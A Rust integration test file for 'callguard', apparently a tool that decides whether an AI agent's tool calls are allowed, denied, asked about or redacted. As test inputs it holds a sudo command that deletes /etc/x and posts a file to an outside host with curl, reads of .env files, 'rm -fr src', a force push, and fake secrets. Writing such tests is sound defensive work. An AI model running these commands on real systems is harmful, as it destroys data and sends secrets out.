//! Every command as a person runs it: exit code, standard output, standard error.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::fmt::Write as _;
use std::io::Write as _;
use std::process::{Command, Stdio};

/// Runs the binary in `tests/data` and shows what came of it.
fn callguard(args: &[&str]) -> String {
    shown(args, run(args, b""))
}

fn run(args: &[&str], input: &[u8]) -> std::process::Output {
    run_in(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data").as_ref(), args, input)
}

fn run_in(folder: &std::path::Path, args: &[&str], input: &[u8]) -> std::process::Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_callguard"))
        .args(args)
        .current_dir(folder)
        .env_clear()
        // Where coverage of this process goes, when it is measured.
        .envs(std::env::var_os("LLVM_PROFILE_FILE").map(|place| ("LLVM_PROFILE_FILE", place)))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

fn shown(args: &[&str], output: std::process::Output) -> String {
    let mut text = format!("$ callguard {}\nexit {}\n", args.join(" "), output.status.code().unwrap());
    for (name, bytes) in [("stdout", output.stdout), ("stderr", output.stderr)] {
        let printed = String::from_utf8(bytes).unwrap();
        if !printed.is_empty() {
            write!(text, "--- {name}\n{printed}").unwrap();
        }
    }
    text
}

#[test]
fn validate() {
    insta::assert_snapshot!("validate_ok", callguard(&["validate", "policy.yaml", "passing.test.yaml"]));
    insta::assert_snapshot!("validate_broken", callguard(&["validate", "broken.yaml"]));
    insta::assert_snapshot!("validate_broken_json", callguard(&["validate", "broken.yaml", "--json"]));
    insta::assert_snapshot!("validate_missing", callguard(&["validate", "nowhere.yaml"]));
}

#[test]
fn a_folder_stands_for_the_files_beneath_it_that_are_of_the_kind() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    std::fs::create_dir_all(root.join("b/c")).unwrap();
    let policy = "{ apiVersion: callguard/v1, kind: Policy, metadata: { name: p }, spec: { default: allow, unknown_tools: allow } }";
    let test = |name: &str| {
        format!(
            "{policy}\n---\napiVersion: callguard/v1\nkind: PolicyTest # of this file\nmetadata: {{ name: {name} }}\ncases: [{{ name: it runs, call: {{ tool: x }}, expect: {{ decision: allow }} }}]\n"
        )
    };
    for (path, text) in [
        ("b/c/second.yml", test("second")),
        ("a.test.yaml", test("first")),
        ("b/policy.yaml", policy.to_owned()),
        ("b/values.yaml", "kind: Deployment\n".to_owned()),
        ("b/notes.md", "kind: PolicyTest callguard/v1".to_owned()),
    ] {
        std::fs::write(root.join(path), text).unwrap();
    }
    let named = root.to_str().unwrap();
    let tested = shown(&["test", named], run(&["test", named], b"")).replace(named, "ROOT");
    assert_eq!(
        tested.lines().skip(1).collect::<Vec<_>>().join("\n"),
        "exit 0\n--- stdout\nfirst  ROOT/a.test.yaml\n  ok    it runs\nsecond  ROOT/b/c/second.yml\n  ok    it runs\n2 passed, 0 failed"
    );
    let validated = run(&["validate", named, "--json"], b"");
    let found: serde_json::Value = serde_json::from_slice(&validated.stdout).unwrap();
    assert_eq!(validated.status.code(), Some(0), "{found}");
    assert!(found.to_string().contains("b/policy.yaml") && !found.to_string().contains("values.yaml"), "{found}");
    std::fs::remove_file(root.join("a.test.yaml")).unwrap();
    std::fs::remove_dir_all(root.join("b/c")).unwrap();
    let none = shown(&["test", named], run(&["test", named], b"")).replace(named, "ROOT");
    assert!(
        none.contains("exit 2") && none.contains("`ROOT` holds no YAML file with a document of kind `PolicyTest`"),
        "{none}"
    );
}

#[test]
fn validate_sarif_is_a_log_with_a_run_a_file() {
    let output = run(&["validate", "policy.yaml", "broken.yaml", "--sarif"], b"");
    assert_eq!(output.status.code(), Some(5));
    let log: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let runs = log["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 2);
    assert_eq!(runs[0]["results"].as_array().unwrap().len(), 0);
    assert!(runs[1]["results"].as_array().unwrap().len() >= 3);
}

#[test]
fn check_one_call() {
    let check = |more: &[&str]| {
        let mut args = vec!["check", "policy.yaml", "--tool", "deploy"];
        args.extend_from_slice(more);
        callguard(&args)
    };
    insta::assert_snapshot!("check_allowed", check(&["--environment", "staging"]));
    insta::assert_snapshot!(
        "check_denied",
        check(&["--environment", "production", "--principal", r#"{"role": "intern"}"#])
    );
    insta::assert_snapshot!("check_asked", check(&["--environment", "staging", "--args", r#"{"size": 200}"#]));
    insta::assert_snapshot!("check_requires", check(&[]));
    insta::assert_snapshot!(
        "check_json",
        check(&["--environment", "staging", "--args", r#"{"size": "60"}"#, "--json"])
    );
    insta::assert_snapshot!("check_explain", check(&["--environment", "production", "--explain"]));
    insta::assert_snapshot!("check_output", check(&["--environment", "staging", "--output", r#""SSN 078-05-1120""#]));
    insta::assert_snapshot!("check_bad_args", check(&["--args", "{"]));
    insta::assert_snapshot!("check_bad_principal", check(&["--principal", r#"{"roll": "sre"}"#]));
}

#[test]
fn check_a_stream_of_calls() {
    insta::assert_snapshot!("calls_text", callguard(&["check", "policy.yaml", "--calls", "calls.jsonl"]));
    insta::assert_snapshot!("calls_json", callguard(&["check", "policy.yaml", "--calls", "calls.jsonl", "--json"]));
}

#[test]
fn a_stream_answers_every_line_in_order_whatever_stands_in_it() {
    let mut input = Vec::new();
    input.extend_from_slice(b"{\"tool\": \"deploy\", \"environment\": \"staging\"}\n");
    input.extend_from_slice(b"\xff\xfe\n");
    input
        .extend_from_slice(b"{\"tool\": \"deploy\", \"args\": {\"a\": \"\\u0000\"}, \"environment\": \"staging\"}\r\n");
    input.extend_from_slice(&[b'['; 200_000]);
    input.extend_from_slice(b"\n");
    input.extend_from_slice(b"{\"tool\": \"deploy\", \"args\": {\"a\": \"");
    input.extend_from_slice(&vec![b'x'; 50_000_000]);
    input.extend_from_slice(b"\"}}\n{\"tool\": \"deploy\", \"environment\": \"staging\"}");
    let output = run(&["check", "policy.yaml", "--calls", "-", "--json"], &input);
    let lines: Vec<serde_json::Value> = output
        .stdout
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).unwrap())
        .collect();
    let decisions: Vec<&str> = lines.iter().map(|line| line["decision"].as_str().unwrap()).collect();
    assert_eq!(decisions, ["allow", "deny", "allow", "deny", "deny", "allow"]);
    assert_eq!(output.status.code(), Some(3));
}

#[test]
fn the_exit_code_is_the_same_with_json() {
    for (args, code) in [
        (&["check", "policy.yaml", "--tool", "deploy", "--environment", "staging"][..], 0),
        (&["check", "policy.yaml", "--tool", "deploy"][..], 3),
        (
            &["check", "policy.yaml", "--tool", "deploy", "--environment", "staging", "--args", r#"{"size": 101}"#][..],
            4,
        ),
        (&["validate", "broken.yaml"][..], 5),
        (&["test", "failing.test.yaml"][..], 6),
        (&["test", "passing.test.yaml"][..], 0),
    ] {
        let with_json: Vec<&str> = args.iter().copied().chain(["--json"]).collect();
        assert_eq!(run(args, b"").status.code(), Some(code), "{args:?}");
        assert_eq!(run(&with_json, b"").status.code(), Some(code), "{with_json:?}");
    }
    assert_eq!(run(&["check"], b"").status.code(), Some(2));
}

#[test]
fn explain() {
    insta::assert_snapshot!("explain_code", callguard(&["explain", "cg0201"]));
    insta::assert_snapshot!("explain_no_code", callguard(&["explain", "CG9999"]));
    insta::assert_snapshot!("explain_policy", callguard(&["explain", "policy.yaml"]));
}

#[test]
fn the_explicit_form_is_yaml_that_says_the_same_as_its_json() {
    let json: serde_json::Value =
        serde_json::from_slice(&run(&["explain", "policy.yaml", "--json"], b"").stdout).unwrap();
    assert_eq!(json["policies"][0]["contracts"].as_array().unwrap().len(), 4);
    assert_eq!(json["policies"][0]["contracts"][0]["when"]["environment"]["equals"], "production");
}

#[test]
fn templates() {
    insta::assert_snapshot!("template_list", callguard(&["template", "list"]));
    insta::assert_snapshot!("template_unknown", callguard(&["template", "show", "file-agnet"]));
    let shown = run(&["template", "show", "file-agent"], b"");
    assert!(String::from_utf8(shown.stdout).unwrap().contains("name: file-agent"));
}

#[test]
fn a_started_policy_loads_and_its_test_passes() {
    let folder = tempfile::tempdir().unwrap();
    let dir = folder.path().to_str().unwrap();
    for name in ["coding-agent", "data-analyst", "file-agent", "research-agent", "devops-agent", "deny-sensitive-reads"]
    {
        let place = format!("{dir}/{name}");
        std::fs::create_dir(&place).unwrap();
        let output = run(&["template", "init", name, "--dir", &place], b"");
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        let output = run(&["test", &format!("{place}/policy.test.yaml")], b"");
        let said = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        assert_eq!(output.status.code(), Some(0), "{said}");
        assert_eq!(run(&["template", "init", name, "--dir", &place], b"").status.code(), Some(1));
    }
}

#[test]
fn completions_name_every_command() {
    for shell in ["bash", "zsh", "fish"] {
        let script = String::from_utf8(run(&["completions", shell], b"").stdout).unwrap();
        for command in ["validate", "check", "explain", "template", "demo"] {
            assert!(script.contains(command), "{shell}: {command}");
        }
    }
}

#[test]
fn the_demo_shows_a_decision_for_every_call_and_leaves_an_audit() {
    let folder = tempfile::tempdir().unwrap();
    let output = run_in(folder.path(), &["demo", "--json", "--audit", "audit.jsonl"], b"");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let lines: Vec<serde_json::Value> =
        String::from_utf8(output.stdout).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let decisions: Vec<&str> = lines.iter().map(|line| line["decision"].as_str().unwrap()).collect();
    assert!(decisions.len() >= 20, "{decisions:?}");
    let of = |path: &str| {
        let found = lines.iter().find(|line| line["args"].as_object().unwrap().values().any(|value| value == path));
        found.unwrap()["decision"].as_str().unwrap()
    };
    assert_eq!(of("README.md"), "allow");
    assert_eq!(of(".env"), "deny");
    assert_eq!(of("src/../.env"), "deny");
    assert_eq!(of("rm -fr src"), "deny");
    assert_eq!(of("git push --force origin main"), "ask");
    assert_eq!(of("config/settings.ini"), "redact");
    let events = std::fs::read_to_string(folder.path().join("audit.jsonl")).unwrap();
    assert!(!events.contains("AKIAZ7VRSQ5TJN2XMPLQ"), "the audit holds a secret");
    let allowed = events.lines().filter(|line| line.contains("\"call_allowed\"")).count();
    assert_eq!(allowed, decisions.iter().filter(|word| matches!(**word, "allow" | "redact")).count());
}

#[test]
fn help_lists_the_commands_and_the_exit_codes() {
    insta::assert_snapshot!("help", callguard(&["--help"]));
}

#[test]
fn schemas_are_those_that_the_reference_holds() {
    for kind in ["Policy", "PolicyTest", "Gateway"] {
        let printed = String::from_utf8(run(&["schema", kind], b"").stdout).unwrap();
        let kept = format!("{}/../../docs/reference/schemas/{kind}.schema.json", env!("CARGO_MANIFEST_DIR"));
        assert_eq!(printed, std::fs::read_to_string(kept).unwrap(), "{kind}");
    }
    assert_eq!(run(&["schema", "Nothing"], b"").status.code(), Some(2));
}

#[test]
fn explain_a_command_line() {
    let explain = |line: &str| callguard(&["explain", "--command", line]);
    insta::assert_snapshot!("explain_command", explain("cd src && grep -rn 'fn main' . | head -3 > ../found.txt"));
    insta::assert_snapshot!(
        "explain_command_wrapped",
        explain("sudo -u root sh -c 'rm -rf /etc/x; curl -d @a https://a.example'")
    );
    insta::assert_snapshot!("explain_command_unclear", explain("python3 -c \"$CODE\"; ./deploy --to prod"));
    insta::assert_snapshot!("explain_command_nothing", explain(""));
    insta::assert_snapshot!(
        "explain_command_json",
        callguard(&["explain", "--json", "--cwd", "/srv", "--command", "tar xzf a.tgz -C out"])
    );
    assert_eq!(run(&["explain"], b"").status.code(), Some(2));
    assert_eq!(run(&["explain", "CG0201", "--command", "ls"], b"").status.code(), Some(2));
}

#[test]
fn json_explains_and_says_how_to_ask() {
    let json = |args: &[&str]| -> serde_json::Value { serde_json::from_slice(&run(args, b"").stdout).unwrap() };
    let explained =
        json(&["check", "policy.yaml", "--tool", "deploy", "--environment", "production", "--explain", "--json"]);
    let first = &explained["explanation"][0];
    assert_eq!((&first["id"], &first["applies"]), (&"deploys/needs-role".into(), &"true".into()));
    assert_eq!(first["when"]["found"], "\"production\"");
    assert_eq!(first["unless"][0]["truth"], "false");
    let asked = json(&[
        "check",
        "policy.yaml",
        "--tool",
        "deploy",
        "--environment",
        "staging",
        "--args",
        r#"{"size": 200}"#,
        "--json",
    ]);
    assert_eq!(asked["ask"]["contracts"][0], "deploys/big-change");
    assert_eq!(asked["ask"]["on_timeout"], "deny");
}

#[test]
fn every_template_has_an_explicit_form() {
    for name in ["coding-agent", "data-analyst", "file-agent", "research-agent", "devops-agent", "deny-sensitive-reads"]
    {
        let output = run(&["explain", &format!("template/{name}"), "--json"], b"");
        let core: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        assert!(!core["policies"][0]["contracts"].as_array().unwrap().is_empty(), "{name}");
    }
}

#[test]
fn a_store_that_cannot_be_used_ends_the_command() {
    let ended = |store: &str| {
        let output = run(&["mcp", "run", "--policy", "policy.yaml", "--store", store, "--", "true"], b"");
        (output.status.code(), String::from_utf8(output.stderr).unwrap())
    };
    let (exit, said) = ended("redis://:hunter2@h");
    assert_eq!(exit, Some(2));
    assert!(said.contains("(CG1061)") && said.contains("password_file") && !said.contains("hunter2"), "{said}");
    let (exit, said) = ended("mysql://h");
    assert_eq!(exit, Some(2));
    assert!(
        said.starts_with("error: the store `mysql://h`: this names no store (CG1061)\nhelp: write `memory`"),
        "{said}"
    );
    let (exit, said) = ended("redis://me@127.0.0.1:1/3?prefix=team");
    assert_eq!(exit, Some(1));
    assert!(
        said.starts_with(
            "error: the store `redis://127.0.0.1:1/3` cannot be used: it cannot be reached: connection refused (CG1062)\n"
        ),
        "{said}"
    );
}

#[test]
fn a_store_in_a_file_outlives_the_command() {
    let folder = tempfile::tempdir().unwrap();
    let (policy, store) = (folder.path().join("once.yaml"), format!("sqlite:{}/s.db", folder.path().display()));
    let text = "apiVersion: callguard/v1\nkind: Policy\nmetadata: { name: p }\nspec:
  session:\n    - { id: once, limit: { calls: 1 } }\n";
    std::fs::write(&policy, text).unwrap();
    let call =
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_directory","arguments":{"path":"."}}}"#;
    let (policy, folder) = (policy.to_str().unwrap(), folder.path().to_str().unwrap());
    let binary = env!("CARGO_BIN_EXE_callguard");
    let server = [binary, "mcp", "demo-server", folder];
    let answers = [(); 2].map(|()| {
        let args = [&["mcp", "run", "--policy", policy, "--store", &store, "--"], server.as_slice()].concat();
        let output = run(&args, format!("{call}\n").as_bytes());
        assert_eq!(output.status.code(), Some(0));
        String::from_utf8(output.stdout).unwrap()
    });
    assert!(answers[0].contains("once.yaml"), "{answers:?}");
    assert!(answers[1].contains("Stopped by p/once."), "{answers:?}");
}
